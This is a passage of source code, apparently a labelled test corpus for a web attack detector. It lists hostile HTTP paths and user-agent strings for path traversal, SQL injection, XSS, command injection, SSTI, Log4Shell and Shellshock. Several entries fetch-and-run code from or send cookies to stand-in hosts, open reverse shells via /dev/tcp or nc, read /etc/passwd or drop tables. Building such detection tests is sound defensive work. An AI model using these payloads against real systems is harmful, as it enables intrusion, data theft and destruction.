        atk("traversal", "/download?path=/proc/self/environ", CHROME),
        atk("traversal", "/download?f=%u002e%u002e%u2215etc%u2215passwd", CHROME),
        atk("traversal", "/img?src=file:///c:/boot.ini", CHROME),
        // sqli
        atk("sqli", "/login?user=admin%27--", CHROME),
        atk("sqli", "/login?user=admin%27+%23", CHROME),
        atk("sqli", "/items?id=1%27+OR+%271%27%3D%271", CHROME),
        atk("sqli", "/items?id=1%27%20or%201%3D1--%20-", CHROME),
        atk("sqli", "/items?id=1+or+1%3D1", CHROME),
        atk("sqli", "/items?id=1%22+or+%22a%22%3D%22a", CHROME),
        atk("sqli", "/items?id=-1+UNION+ALL+SELECT+NULL,NULL,NULL--", CHROME),
        atk("sqli", "/items?id=1/**/UnIoN/**/SeLeCt/**/1,2,3", CHROME),
        atk("sqli", "/items?id=1+union+select+username,password+from+users", CHROME),
        atk("sqli", "/items?id=1%3B+DROP+TABLE+users--", CHROME),
        atk("sqli", "/items?id=1%27%3B+shutdown--", CHROME),
        atk("sqli", "/items?id=1+AND+SLEEP(5)", CHROME),
        atk("sqli", "/items?id=1%27+AND+(SELECT+1+FROM+(SELECT(SLEEP(5)))a)--+", CHROME),
        atk("sqli", "/items?id=1+and+benchmark(5000000,md5(1))", CHROME),
        atk("sqli", "/items?id=1%3Bselect+pg_sleep(5)--", CHROME),
        atk("sqli", "/items?id=1%27%3Bwaitfor+delay+%270%3A0%3A5%27--", CHROME),
        atk("sqli", "/items?id=1+and+1%3D(select+count(*)+from+information_schema.tables)", CHROME),
        atk("sqli", "/items?id=1+and+extractvalue(1,concat(0x7e,version()))", CHROME),
        atk("sqli", "/items?id=1+and+updatexml(1,concat(0x7e,user()),1)", CHROME),
        atk("sqli", "/items?id=1+union+select+load_file(%27/etc/passwd%27)", CHROME),
        atk("sqli", "/items?id=1+into+outfile+%27/var/www/s.php%27", CHROME),
        atk("sqli", "/items?id=1%27%20or%20%27x%27%3D%27x", CHROME),
        atk("sqli", "/items?sort=(case+when+1%3D1+then+name+else+price+end)&id=1+order+by+10--", CHROME),
        atk("sqli", "/", "Mozilla/5.0' or sleep(10)#"),
        // xss
        atk("xss", "/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", CHROME),
        atk("xss", "/search?q=%3CScRiPt+src%3D//evil.example/x.js%3E", CHROME),
        atk("xss", "/search?q=%3Cimg+src%3Dx+onerror%3Dalert(document.cookie)%3E", CHROME),
        atk("xss", "/search?q=%3Csvg%2Fonload%3Dalert(1)%3E", CHROME),
        atk("xss", "/search?q=%3Cbody+onload%3Dprompt(1)%3E", CHROME),
        atk("xss", "/search?q=%22%3E%3Cscript%3Econfirm(1)%3C/script%3E", CHROME),
        atk("xss", "/search?q=%22+autofocus+onfocus%3Dalert(1)+x%3D%22", CHROME),
        atk("xss", "/redirect?url=javascript:alert(document.domain)", CHROME),
        atk("xss", "/redirect?url=JaVaScRiPt%3Aeval(atob(%27YWxlcnQoMSk%3D%27))", CHROME),
        atk("xss", "/redirect?url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", CHROME),
        atk("xss", "/search?q=%3Ciframe+src%3D%22javascript:alert(1)%22%3E", CHROME),
        atk("xss", "/search?q=%3Ca+href%3D%22javascript%3Aalert(1)%22%3Eclick%3C/a%3E", CHROME),
        atk("xss", "/search?q=%3Cdetails+open+ontoggle%3Dalert(1)%3E", CHROME),
        atk("xss", "/search?q=%27-alert(1)-%27", CHROME),
        atk("xss", "/search/%3Cscript%3Ealert(1)%3C%2Fscript%3E", CHROME),
        atk("xss", "/", "<script>new Image().src='//x.example/?c='+document.cookie</script>"),
        // cmdi
        atk("cmdi", "/ping?host=127.0.0.1%3Bcat+/etc/passwd", CHROME),
        atk("cmdi", "/ping?host=127.0.0.1%3B+id%3B", CHROME),
        atk("cmdi", "/ping?host=127.0.0.1|whoami", CHROME),
        atk("cmdi", "/ping?host=127.0.0.1+%7C+uname+-a", CHROME),
        atk("cmdi", "/ping?host=x%26%26curl+http://evil.example/x.sh|sh", CHROME),
        atk("cmdi", "/ping?host=x%3Bwget+http://evil.example/bot+-O+/tmp/bot", CHROME),
        atk("cmdi", "/ping?host=%24(id)", CHROME),
        atk("cmdi", "/ping?host=%60whoami%60", CHROME),
        atk("cmdi", "/ping?host=x;cat${IFS}/etc/passwd", CHROME),
        atk("cmdi", "/ping?host=x%0aid%0a", CHROME),
        atk("cmdi", "/ping?host=x||ping+-c+10+127.0.0.1", CHROME),
        atk("cmdi", "/run?cmd=bash+-i+%3E%26+/dev/tcp/10.0.0.1/4444+0%3E%261", CHROME),
        atk("cmdi", "/run?cmd=nc+-e+/bin/sh+10.0.0.1+4444", CHROME),
        atk("cmdi", "/run?x=%3Bpowershell+-enc+SQBFAFgA", CHROME),
        atk("cmdi", "/run?x=|cmd.exe+/c+dir", CHROME),
        atk("cmdi", "/ping?host=127.0.0.1%3Bsleep+10%3B", CHROME),
        atk("cmdi", "/", "x; /bin/cat /etc/passwd"),
        // ssti
        atk("ssti", "/hello?name=%7B%7B7*7%7D%7D", CHROME),
        atk("ssti", "/hello?name=%7B%7B7*%277%27%7D%7D", CHROME),
        atk("ssti", "/hello?name=%24%7B7*7%7D", CHROME),
        atk("ssti", "/hello?name=%23%7B7*7%7D", CHROME),
        atk("ssti", "/hello?name=*%7B7*7%7D", CHROME),
        atk("ssti", "/hello?name=%3C%25%3D+7*7+%25%3E", CHROME),
        atk("ssti", "/hello?name={{%27%27.__class__.__mro__[1].__subclasses__()}}", CHROME),
        atk("ssti", "/hello?name={{config.items()}}", CHROME),
        atk("ssti", "/hello?name={{self._TemplateReference__context.cycler.__init__.__globals__.os.popen(%27id%27).read()}}", CHROME),
        atk("ssti", "/hello?name=${T(java.lang.Runtime).getRuntime().exec(%27id%27)}", CHROME),
        atk("ssti", "/hello?name=%3C%23assign+ex%3D%22freemarker.template.utility.Execute%22%3Fnew()%3E${ex(%22id%22)}", CHROME),
        atk("ssti", "/hello?name=%23set(%24x%3D%27%27)", CHROME),
        atk("ssti", "/hello?name={{constructor.constructor(%27alert(1)%27)()}}", CHROME),
        atk("ssti", "/hello/%257B%257B7*7%257D%257D/%7B%7B7*7%7D%7D", CHROME),
        atk("ssti", "/", "{{7*7}}"),
        // log4shell
        atk("log4shell", "/", "${jndi:ldap://evil.example:1389/a}"),
        atk("log4shell", "/", "Mozilla/5.0 ${jndi:rmi://evil.example/a}"),
        atk("log4shell", "/", "${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://evil.example/a}"),
        atk("log4shell", "/", "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://evil.example/a}"),
        atk("log4shell", "/", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}"),
        atk("log4shell", "/", "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://evil.example/a}"),
        atk("log4shell", "/", "${jNdI:LdAp://evil.example/a}"),
        atk("log4shell", "/?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", CHROME),
        atk("log4shell", "/search?q=${jndi:dns://evil.example/a}", CHROME),
        atk("log4shell", "/$%7Bjndi:ldap://evil.example/a%7D", CHROME),
        atk("log4shell", "/?x=${${upper:j}ndi:ldap://evil.example/a}", CHROME),
        atk("log4shell", "/", "${jndi:ldap://${env:USER}.evil.example/a}"),
        // shellshock
        atk("shellshock", "/cgi-bin/status", "() { :; }; echo; /bin/cat /etc/passwd"),
        atk("shellshock", "/cgi-bin/test.cgi", "() { :;}; /bin/bash -c \"sleep 5\""),
        atk("shellshock", "/", "() { :; }; /usr/bin/wget http://evil.example/x -O /tmp/x"),
        atk("shellshock", "/", "() { _; } >_[$($())] { echo vulnerable; }"),
        atk("shellshock", "/", "() {:;}; echo vulnerable"),
        atk("shellshock", "/", "() { : ; } ; ping -c 3 10.0.0.1"),
        atk("shellshock", "/", "Mozilla/5.0 () { :; }; curl evil.example"),
        atk("shellshock", "/?x=()+%7B+%3A%3B+%7D%3B+id", CHROME),
        atk("shellshock", "/cgi-bin/%28%29%20%7B%20%3A%3B%20%7D%3B%20id", CHROME),
        atk("shellshock", "/", "() { 0; }; echo vulnerable"),
    ]
}
